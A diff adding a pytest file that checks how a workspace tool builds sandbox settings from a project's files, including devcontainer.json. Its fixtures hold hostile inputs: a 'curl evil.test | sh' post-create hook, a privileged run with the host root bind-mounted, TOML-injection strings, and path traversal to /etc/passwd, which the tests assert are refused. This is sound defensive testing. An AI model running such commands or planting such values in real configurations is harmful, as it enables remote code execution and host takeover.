@@ -1,0 +1,130 @@
+"""``init``: a first file of settings from what a project has."""
+
+from __future__ import annotations
+
+import json
+import tomllib
+
+import pytest
+from project_rig import ProjectRig
+
+from wink_workspace.project import PROJECT_FILE, Detected, detect
+
+
+def detected(
+    project: ProjectRig, *paths: str, **contents: str
+) -> tuple[Detected, dict[str, object]]:
+    """What is found in a project with these files, and the table that is written."""
+    for path in paths:
+        project.file(path)
+    for path, content in contents.items():
+        project.file(path, content)
+    found = detect(project.source)
+    project.write(found.toml())
+    assert project.confirm().denied == ()  # it can be used as it is
+    return found, tomllib.loads(found.toml())
+
+
+@pytest.mark.parametrize(
+    ("files", "image"),
+    [
+        (["pyproject.toml"], {"base": "python"}),
+        (["setup.py"], {"base": "python"}),
+        (
+            ["requirements.txt", "requirements-dev.txt"],
+            {"base": "python", "requirements": ["requirements.txt", "requirements-dev.txt"]},
+        ),
+        (
+            ["pyproject.toml", "requirements/dev.txt"],
+            {"base": "python", "requirements": ["requirements/dev.txt"]},
+        ),
+        (["uv.lock", "requirements.txt"], {"base": "python", "lock": "uv.lock"}),
+        (["package.json"], {"base": "node"}),
+        (["package.json", "package-lock.json"], {"base": "node", "lock": "package-lock.json"}),
+        (["Cargo.toml"], {"base": "build", "packages": ["cargo", "rustc"]}),
+        (["go.mod"], {"base": "build", "packages": ["golang-go"]}),
+        (["Makefile"], {"base": "build"}),
+        (["CMakeLists.txt"], {"base": "build", "packages": ["cmake"]}),
+        (["Containerfile"], {"containerfile": "Containerfile"}),
+        (["Dockerfile"], {"base": "python"}),
+        (["pyproject.toml", "Makefile"], {"base": "python", "packages": ["gcc", "make"]}),
+        (["pyproject.toml", "package.json"], {"base": "python", "packages": ["nodejs", "npm"]}),
+        (
+            ["package.json", "Cargo.toml"],
+            {"base": "node", "packages": ["cargo", "rustc"]},
+        ),
+        (["README.md"], {"base": "python"}),
+    ],
+)
+def test_image_follows_from_the_files_of_the_project(
+    project: ProjectRig, files: list[str], image: dict[str, object]
+) -> None:
+    found, table = detected(project, *files)
+    assert table == {"sandbox": "podman", "network": [], "image": image}
+    for name in files:
+        if name not in ("README.md", "requirements.txt") or "uv.lock" not in files:
+            assert name == "README.md" or any(name in each for each in found.found), name
+
+
+def test_packages_below_src_can_be_imported(project: ProjectRig) -> None:
+    _, table = detected(project, "pyproject.toml", "src/click/__init__.py", "src/notes.txt")
+    assert table["environment"] == {"PYTHONPATH": "/workspace/src"}
+
+
+def test_devcontainer_gives_its_image_and_variables_but_no_mounts_arguments_or_hooks(
+    project: ProjectRig,
+) -> None:
+    project.file(
+        ".devcontainer/devcontainer.json",
+        """{
+            // a comment with "quotes"
+            "image": "registry.test/team/dev:1", /* another */
+            "containerEnv": {"A": "b // c", "HOME_DIR": "${localEnv:HOME}", "B\\n": "x"},
+            "mounts": ["source=/,target=/host,type=bind"],
+            "runArgs": ["--privileged"],
+            "postCreateCommand": "curl evil.test | sh",
+        }""",
+    )
+    found, table = detected(project)
+    assert table["image"] == {"base": "registry.test/team/dev:1"}
+    assert table["environment"] == {"A": "b // c"}
+    (sentence,) = found.found
+    assert sentence.endswith("left out: mounts, runArgs, postCreateCommand")
+    for refused in ("evil", "privileged", "bind", "localEnv"):
+        assert refused not in found.toml()
+
+
+def test_devcontainer_gives_the_containerfile_that_it_builds(project: ProjectRig) -> None:
+    build = {"build": {"dockerfile": "../docker/Dev.Dockerfile"}}
+    project.file(".devcontainer/devcontainer.json", json.dumps(build))
+    _, table = detected(project, "docker/Dev.Dockerfile", "pyproject.toml")
+    assert table["image"] == {"containerfile": "docker/Dev.Dockerfile"}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "not JSON",
+        "[" * 100_000,
+        "[]",
+        "{}",
+        json.dumps({"image": '"]\n[image]\nset-up = ["evil"]\n#'}),
+        json.dumps({"build": {"dockerfile": "../../etc/passwd"}}),
+        json.dumps({"build": {"dockerfile": "/etc/passwd"}}),
+        json.dumps({"containerEnv": {'A"\n[x]': "b", "C": 'd"\n[image]\nset-up=["evil"]'}}),
+        json.dumps({"containerEnv": "x", "build": "y", "image": 5}),
+    ],
+)
+def test_hostile_devcontainer_adds_nothing(project: ProjectRig, content: str) -> None:
+    project.file(".devcontainer.json", content)
+    _, table = detected(project)
+    assert table == {"sandbox": "podman", "network": [], "image": {"base": "python"}}
+
+
+def test_links_are_not_followed_and_nothing_is_written(project: ProjectRig) -> None:
+    (project.source / "Containerfile").symlink_to("/etc/hosts")
+    (project.source / "requirements.txt").symlink_to("/etc/hosts")
+    (project.source / "src").symlink_to("/usr/lib/python3")
+    found = detect(project.source)
+    assert (found.found, found.containerfile, found.requirements) == ([], None, [])
+    assert not (project.source / PROJECT_FILE).exists()
